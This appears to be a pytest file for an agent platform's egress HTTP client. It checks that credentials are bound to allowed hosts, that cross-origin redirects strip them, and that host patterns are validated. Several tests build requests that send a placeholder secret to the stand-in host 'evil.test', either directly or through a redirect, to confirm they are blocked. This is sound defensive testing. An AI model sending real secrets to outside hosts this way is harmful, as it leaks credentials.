"""Credentials bound to hosts in the engine's egress client, and host pattern validation."""

from __future__ import annotations

import pytest

from agent_platform.engine.protocols import BoundCredential, HttpRequest, PermanentError
from agent_platform.integrations.egress import EgressGuard
from agent_platform.integrations.egress_http import (
    EgressHttpClient,
    host_allowed,
    normalise_host_patterns,
)
from tests.integrations.test_egress import fake_resolver

pytestmark = pytest.mark.anyio
HOSTS = ("api.allowed.test", "evil.test", "sub.allowed.test")
SECRET = "sk-bound-secret-123456"


def client() -> EgressHttpClient:
    names = {host: ["127.0.0.1"] for host in HOSTS}
    return EgressHttpClient(EgressGuard(allow_hosts=["127.0.0.1"], resolver=fake_resolver(names)))


def bound(*hosts: str, header: str = "authorization") -> BoundCredential:
    return BoundCredential(tuple(hosts), frozenset({header}))


async def test_a_credential_is_never_sent_outside_its_hosts(wire):
    request = HttpRequest(
        "GET", f"http://evil.test:{wire.port}/?key={SECRET}", {"Authorization": SECRET},
        credential=bound("api.allowed.test"),
    )  # fmt: skip
    with pytest.raises(PermanentError, match="^credential not allowed for host evil.test$"):
        await client().request(request)
    assert wire.requests == []


async def test_a_wildcard_credential_reaches_its_subdomains(wire):
    wire.add_route("GET", "/", body="ok")
    credential = bound("*.allowed.test")
    for host in ("api.allowed.test", "sub.allowed.test"):
        request = HttpRequest("GET", f"http://{host}:{wire.port}/", credential=credential)
        assert (await client().request(request)).body == "ok"


@pytest.mark.parametrize("header", ["authorization", "x-api-key"])
async def test_a_cross_origin_redirect_drops_credential_headers_and_cookies(wire, header):
    target = f"http://evil.test:{wire.port}/landing"
    wire.add_route(
        "GET", "/start", status=307, headers={"location": target, "set-cookie": "sid=1; Path=/"}
    )
    wire.add_route("GET", "/landing", body="landed")
    request = HttpRequest(
        "GET", f"http://api.allowed.test:{wire.port}/start",
        {header: SECRET, "Cookie": "pre=set", "X-Trace": "keep"},
        credential=bound("api.allowed.test", header=header),
    )  # fmt: skip
    assert (await client().request(request)).body == "landed"
    first, second = wire.requests
    assert first.headers[header] == SECRET and first.headers["cookie"] == "pre=set"
    assert header not in second.headers and "cookie" not in second.headers
    assert second.headers["x-trace"] == "keep"


async def test_same_origin_redirects_keep_the_credential_and_are_rechecked(wire):
    wire.add_route("GET", "/a", status=302, headers={"location": "/b"})
    wire.add_route("GET", "/b", body="b")
    request = HttpRequest(
        "GET", f"http://api.allowed.test:{wire.port}/a", {"Authorization": SECRET},
        credential=bound("api.allowed.test"),
    )  # fmt: skip
    assert (await client().request(request)).body == "b"
    assert [r.headers["authorization"] for r in wire.requests] == [SECRET, SECRET]


async def test_cookies_from_one_hop_never_reach_another_host_on_the_same_ip(wire):
    target = f"http://evil.test:{wire.port}/landing"
    wire.add_route(
        "GET", "/start", status=302, headers={"location": target, "set-cookie": "sid=1; Path=/"}
    )
    wire.add_route("GET", "/landing")
    await client().request(HttpRequest("GET", f"http://api.allowed.test:{wire.port}/start"))
    assert "cookie" not in wire.requests[1].headers


def test_wildcards_match_subdomains_only():
    assert host_allowed("api.allowed.test", ["*.allowed.test"])
    assert host_allowed("a.b.allowed.test", ["*.allowed.test"])
    assert not host_allowed("allowed.test", ["*.allowed.test"])
    assert not host_allowed("evilallowed.test", ["*.allowed.test"])
    assert host_allowed("api.allowed.test", ["api.allowed.test"])
    assert not host_allowed("x.api.allowed.test", ["api.allowed.test"])


def test_host_patterns_are_normalised():
    entries = [
        "API.Example.com.",
        "*.Example.org",
        "bücher.de",
        "[::1]",
        "0x7f.1",
        "api.example.com",
    ]
    assert normalise_host_patterns(entries) == [
        "api.example.com", "*.example.org", "xn--bcher-kva.de", "::1", "127.0.0.1",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "entry",
    ["*", "*.com", "*.*.example.com", "https://api.example.com", "api.example.com:443",
     "api.example.com/v1", "user@api.example.com", "a b.com", "", "x..com", "-x.com"],
)  # fmt: skip
def test_bad_host_patterns_are_refused(entry):
    with pytest.raises(ValueError):
        normalise_host_patterns([entry])


def test_at_most_twenty_hosts():
    with pytest.raises(ValueError, match="at most 20"):
        normalise_host_patterns([f"h{i}.example.com" for i in range(21)])
